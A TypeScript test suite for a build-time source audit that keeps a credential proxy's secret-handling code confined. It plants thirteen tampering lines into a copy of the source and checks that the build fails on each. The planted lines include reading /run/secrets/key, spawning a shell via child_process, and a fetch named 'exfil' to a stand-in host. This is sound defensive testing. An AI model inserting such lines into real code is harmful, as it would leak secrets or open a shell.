// The source audit (scripts/audit-source.mjs) as `npm run build` runs it: a copy of the checkout
// with forbidden reaches written into its source files fails the build, each named by its file
// and line, and leaves no dist/proxy.js; the report names what each kernel file reaches and every
// host the code names, a new one included. One copy holds every tampering, each in a file of its
// own and on a line of its own, and is built once (the audit reports every finding, not the
// first): each test below reads its own finding from that build.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { ROOT } from '../support/proxy-process.ts';

const dir = mkdtempSync(join(tmpdir(), 'audit-source-test-'));
after(() => rmSync(dir, { recursive: true, force: true }));

/** A copy of what the build reads, outside git, with node_modules linked in. */
function checkoutCopy(at: string): string {
  for (const entry of ['src', 'scripts', 'build.mjs', 'package.json', 'package-lock.json', 'tsconfig.json']) cpSync(join(ROOT, entry), join(at, entry), { recursive: true });
  symlinkSync(join(ROOT, 'node_modules'), join(at, 'node_modules'), 'dir');
  return at;
}

interface Tampering {
  /** What it is, as the test names it. */
  readonly name: string;
  readonly file: string;
  /** Appended to the file, one line each; `at` marks the one the finding names. */
  readonly lines: readonly string[];
  readonly at: number;
  readonly finding: RegExp;
}

const TAMPERINGS: readonly Tampering[] = [
  { name: 'an import of a capability module (node:fs) in a file outside the kernel', file: 'src/gateway/body.ts', lines: ["import { readFileSync } from 'node:fs';", "export const leaked = () => readFileSync('/run/secrets/key', 'utf8');"], at: 0, finding: /imports node:fs, a capability module .* only a file of the credential kernel may/ },
  { name: 'a process.env read outside the configuration loader', file: 'src/limits/charge.ts', lines: ['export const home = () => process.env.HOME;'], at: 0, finding: /reads process\.env: only the configuration's loader/ },
  { name: "a secret's value read (reveal) outside the kernel", file: 'src/gateway/relay.ts', lines: ["import { reveal as show, type Secret as S } from '../http/secret-value.ts';", 'export const shown = (s: S) => show(s);'], at: 1, finding: /reads a secret's value \(src\/http\/secret-value\.ts:reveal\): only kernel code may/ },
  { name: 'a dynamic import() of a built-in', file: 'src/metrics/registry.ts', lines: ["export const spawner = () => import('node:child_process');"], at: 0, finding: /a dynamic import\(\) of node:child_process/ },
  { name: 'a global member off its list (Object.getPrototypeOf)', file: 'src/json/keys.ts', lines: ['export const proto = (x: object) => Object.getPrototypeOf(x);'], at: 0, finding: /Object\.getPrototypeOf: not among the members of Object/ },
  { name: 'the global object (globalThis)', file: 'src/limits/refusal.ts', lines: ['export const everything = () => globalThis;'], at: 0, finding: /globalThis, the global object/ },
  { name: 'a constructor reached by member', file: 'src/gateway/sse.ts', lines: ['export const maker = (x: object) => (x as { constructor: unknown }).constructor;'], at: 0, finding: /the member constructor: from any value it reaches a constructor/ },
  { name: 'process passed on as a value', file: 'src/config/suggest.ts', lines: ['export const proc = () => { const q = process; return q; };'], at: 0, finding: /process used other than as process\.<member>/ },
  { name: 'the secret module imported whole', file: 'src/http/respond.ts', lines: ["import * as secrets from './secret-value.ts';", 'export const all = secrets;'], at: 0, finding: /imports \.\/secret-value\.ts whole, which exports the secret reader/ },
  { name: 'a global on no list (fetch), to a new host', file: 'src/gateway/retry.ts', lines: ["export const exfil = () => fetch('https://exfil.example.net/collect');"], at: 0, finding: /the global fetch: on no list in scripts\/kernel\.json for this file/ },
  { name: 'a capability module a kernel file was not granted', file: 'src/http/tunnel.ts', lines: ["import { execFileSync } from 'node:child_process';", "export const run = () => execFileSync('sh');"], at: 0, finding: /imports node:child_process, which no list in scripts\/kernel\.json grants this file/ },
  { name: 'a built-in without its node: prefix', file: 'src/limits/prices.ts', lines: ["import { statSync } from 'fs';", "export const stat = () => statSync('/');"], at: 0, finding: /imports "fs": only files of src\/ and node: built-ins \(with the prefix\)/ },
  { name: 'a computed member of a global', file: 'src/json/chars.ts', lines: ["export const pick = (k: 'max') => Math[k];"], at: 0, finding: /a computed member of the global Math/ },
];

let build: { status: number | null; stderr: string; lines: Map<string, number> };
let report: { status: number | null; stdout: string };

before(() => {
  const copy = checkoutCopy(join(dir, 'tampered'));
  const lines = new Map<string, number>();
  for (const t of TAMPERINGS) {
    const text = readFileSync(join(copy, t.file), 'utf8');
    assert.ok(text.endsWith('\n'), t.file);
    writeFileSync(join(copy, t.file), `${text}${t.lines.join('\n')}\n`);
    lines.set(t.name, text.split('\n').length + t.at);
  }
  // The build as a reviewer runs it: the source audit its own (npm test's build leaves it to the type check's program).
  const env = Object.fromEntries(Object.entries(process.env).filter(([name]) => name !== 'AUDIT_SOURCE_BESIDE'));
  const built = spawnSync(process.execPath, ['build.mjs'], { cwd: copy, encoding: 'utf8', env });
  build = { status: built.status, stderr: built.stderr, lines };
  assert.equal(existsSync(join(copy, 'dist', 'proxy.js')), false, 'a failed build leaves no dist/proxy.js');
  const audited = spawnSync(process.execPath, ['scripts/audit-source.mjs'], { cwd: copy, encoding: 'utf8' });
  report = { status: audited.status, stdout: audited.stdout };
});

for (const t of TAMPERINGS) {
  test(`credential kernel confined: ${t.name}, written into a copy of src/, fails npm run build naming the file and line`, () => {
    assert.equal(build.status, 1, build.stderr);
    const at = `${t.file}:${build.lines.get(t.name)}: `;
    const line = build.stderr.split('\n').find((l) => l.includes(at) && t.finding.test(l));
    assert.ok(line !== undefined, `no finding ${t.finding} at ${at} in:\n${build.stderr}`);
    assert.match(build.stderr, /build: failed; dist\/proxy\.js not written/);
  });
}

test('credential kernel confined: the failure says how to classify a file (scripts/kernel.json), and npm run audit:source names every finding', () => {
  assert.match(build.stderr, /add it to "kernel" in scripts\/kernel\.json with why/);
  assert.equal(report.status, 1);
  for (const t of TAMPERINGS) assert.ok(report.stdout.includes(`${t.file}:${build.lines.get(t.name)}: `), t.name);
});

test('credential kernel confined: a host name added to the code shows in the audit report, under the file that names it', () => {
  assert.match(report.stdout, /^ {2}host {6}https:\/\/exfil\.example\.net\/collect: src\/gateway\/retry\.ts$/m);
});

test('credential kernel confined: the real checkout passes; the report lists each kernel file with its lines and what it reaches, and the kernel stays within 6,000 lines', () => {
  const r = spawnSync(process.execPath, ['scripts/audit-source.mjs'], { cwd: ROOT, encoding: 'utf8' });
  assert.equal(r.status, 0, r.stdout + r.stderr);
  assert.match(r.stdout, /^findings: none$/m);
  const kernel = JSON.parse(readFileSync(join(ROOT, 'scripts', 'kernel.json'), 'utf8')) as { kernel: Record<string, string> };
  for (const file of Object.keys(kernel.kernel)) assert.match(r.stdout, new RegExp(`^ {2}${file.replace(/\./g, '\\.')} \\(\\d+ lines\\): `, 'm'), file);
  assert.match(r.stdout, /^ {2}src\/http\/forward\.ts \(\d+ lines\): .*\n(?: {6}.*\n)*? {6}built-in {2}node:http Agent, request$/m, 'a kernel file names its built-ins and their members');
  assert.match(r.stdout, /^ {2}src\/gateway\/credentials\/table\.ts \(\d+ lines\): .*\n(?: {6}.*\n)*? {6}host {6}metadata\.google\.internal$/m, 'and the hosts it names');
  const total = /the kernel (\d+) files, (\d+) lines/.exec(r.stdout);
  assert.ok(total !== null && Number(total[2]) <= 6000, `the kernel is ${total?.[2]} lines: SECURITY.md's review reads at most 6,000`);
});
